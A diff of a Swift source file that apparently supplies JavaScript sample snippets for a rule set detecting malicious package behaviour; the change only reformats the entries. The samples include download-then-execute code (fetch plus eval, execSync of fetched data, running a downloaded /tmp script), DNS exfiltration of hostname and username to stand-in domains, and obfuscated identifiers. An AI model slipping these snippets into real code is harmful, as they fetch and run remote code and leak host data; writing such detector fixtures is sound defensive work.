@@ -88,11 +88,17 @@ enum JavaScriptBehaviourExamples {
         .init(.urlTunnel, "const u = ↓`https://${'abc.ngrok'}.io/`;"),
         .init(.urlOutOfBand, "fetch(↓'https://x.oa' + 'st.fun/');"),
         .init(.urlRawIP, "const u = ↓'http://45.9.1.2/p';"),
-        .init(.urlPaste, "const u = ↓String.fromCharCode(104,116,116,112,115,58,47,47,112,97,115,116,101,98,105,110,46,99,111,109,47,114,97,119);"),
+        .init(
+            .urlPaste,
+            "const u = ↓String.fromCharCode(104,116,116,112,115,58,47,47,112,97,115,116,101,98,105,110,46,99,111,"
+                + "109,47,114,97,119);"
+        ),
         .init(.reconPublicIP, "fetch(↓'https://api.ipify.org');"),
         .init(.urlDynamicDNS, "const u = ↓'h.duckdns.org';"),
         .init(.dnsLookup, "const dns = require('dns');\ndns.↓lookup('example.com', () => {});"),
-        .init(.dnsExfiltration, "const dns = require('dns');\nconst os = require('os');\ndns.↓lookup(os.hostname() + '.x.com');"),
+        .init(
+            .dnsExfiltration,
+            "const dns = require('dns');\nconst os = require('os');\ndns.↓lookup(os.hostname() + '.x.com');"),
         .init(.dnsExfiltration, "const dns = require('dns');\ndns.↓resolve(`${process.env.USER}.x.com`);"),
         .init(.dnsExfiltration, "const dns = require('dns');\nfunction f(d) { dns.↓lookup(d + '.x.com'); }"),
         // Encoding.
@@ -121,7 +127,9 @@ enum JavaScriptBehaviourExamples {
         .init(.escapedIdentifiers, "↓\\u0065val(code);"),
         .init(.escapedIdentifiers, "const r = global[↓'\\x72\\x65\\x71\\x75\\x69\\x72\\x65'];"),
         // Download/write then execute.
-        .init(.downloadExecute, """
+        .init(
+            .downloadExecute,
+            """
             const https = require('https');
             https.get('https://x.io/p', (res) => {
               let body = '';
@@ -131,34 +139,44 @@ enum JavaScriptBehaviourExamples {
             """),
         .init(.downloadExecute, "fetch(u).then(r => r.text()).then(t => ↓eval(t));"),
         .init(.downloadExecute, "const r = await fetch(u);\nconst code = await r.text();\nnew ↓Function(code)();"),
-        .init(.downloadExecute, """
+        .init(
+            .downloadExecute,
+            """
             const { execSync } = require('child_process');
             const axios = require('axios');
             const res = await axios.get(u);
             ↓execSync(res.data);
             """),
-        .init(.downloadExecute, """
+        .init(
+            .downloadExecute,
+            """
             const fs = require('fs');
             const cp = require('child_process');
             const r = await fetch(u);
             fs.writeFileSync('/tmp/p', await r.text());
             cp.↓exec('sh /tmp/p');
             """),
-        .init(.writeExecute, """
+        .init(
+            .writeExecute,
+            """
             const fs = require('fs');
             const cp = require('child_process');
             fs.writeFileSync('/tmp/run.sh', 'echo hi');
             fs.↓chmodSync('/tmp/run.sh', 0o755);
             cp.↓execFile('/tmp/run.sh');
             """),
-        .init(.writeExecute, """
+        .init(
+            .writeExecute,
+            """
             const fs = require('fs');
             const file = path.join(dir, 'x.js');
             fs.writeFileSync(file, payload);
             ↓require(file);
             """),
         // Obfuscation.
-        .init(.obfuscatedIdentifiers, """
+        .init(
+            .obfuscatedIdentifiers,
+            """
             var ↓_0x3f2a = ['log'], _0x1b4c = function (_0x5d21, _0x2e8f) { return _0x3f2a[_0x5d21]; };
             console[_0x1b4c(0)](_0x2e8f);
             """),
